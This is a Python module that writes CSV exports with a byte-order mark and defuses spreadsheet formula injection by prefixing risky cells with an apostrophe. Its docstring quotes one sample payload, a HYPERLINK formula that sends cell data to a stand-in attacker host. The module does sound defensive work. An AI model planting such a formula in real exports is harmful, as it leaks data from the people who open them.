"""Every CSV file the app writes goes through `writer`: UTF-8 with a byte-order mark (so a
spreadsheet reads accents right), and text that a spreadsheet would run as a formula made inert.

A display name is anyone's to choose; `=HYPERLINK("https://evil.example?"&A1, "Click")` in a
report opened by a lawyer is an attack on the lawyer. Such cells get a leading apostrophe, which
spreadsheets show as text (OWASP's advice for CSV injection)."""

from __future__ import annotations

import csv
import decimal
from collections.abc import Iterable
from typing import Any, Protocol

BOM = "\ufeff"
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralise(value: Any) -> Any:
    """Text starting like a formula gets an apostrophe; numbers stay numbers (-3 is not text)."""
    if value is None or isinstance(value, bool | int | float | decimal.Decimal):
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


class SafeWriter:
    def __init__(self, stream: _Writable, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: _Writable, **options: Any) -> SafeWriter:
    """csv.writer for a fresh file or HTTP response: writes the byte-order mark first."""
    stream.write(BOM)
    return SafeWriter(stream, **options)
